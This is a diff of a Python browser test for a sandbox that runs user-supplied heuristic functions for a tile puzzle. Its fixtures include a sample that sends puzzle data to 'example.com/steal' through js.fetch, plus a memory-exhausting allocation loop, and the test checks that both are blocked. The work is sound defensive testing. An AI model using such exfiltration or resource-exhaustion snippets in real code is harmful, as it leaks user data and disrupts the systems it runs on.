@@ -150,7 +150,7 @@ def test_a_link_carries_the_code_and_opens_without_running_it(app: Any, site_url
 
 HOSTILE_NETWORK = ("import js\n\n\ndef h(tiles, goal, rows, cols):\n"
                    "    js.fetch('https://example.com/steal?' + str(tiles))\n    return 0\n")
-HUGE = "def h(tiles, goal, rows, cols):\n    global hoard\n    hoard = bytearray(1_500_000_000)\n    return 0\n"
+HUGE = "hoard = []\n\n\ndef h(tiles, goal, rows, cols):\n    hoard.append(bytearray(400_000_000))\n    return 0\n"
 
 
 def test_hostile_code_reaches_no_network_and_a_huge_allocation_is_stopped(app: Any, site_url: str) -> None:
@@ -164,7 +164,10 @@ def test_hostile_code_reaches_no_network_and_a_huge_allocation_is_stopped(app: A
     expect(error).to_contain_text("at line 5")
     write(app, box, HUGE)
     app.get_by_role("button", name="Check", exact=True).click()
-    expect(error).to_contain_text(re.compile(r"MemoryError|memory grow to \d+ MB, past the limit"), timeout=60_000)
+    # Stopped by whichever limit it meets first: Python's MemoryError, the worker's memory past
+    # 1 GiB, or its silence (allocating and zeroing gigabytes, on a loaded machine, in Firefox).
+    expect(error).to_contain_text(
+        re.compile(r"MemoryError|memory grow to \d+ MB, past the limit|stopped answering for 1\d s"), timeout=60_000)
     assert solve_and_read_length(app) == 31
 
 
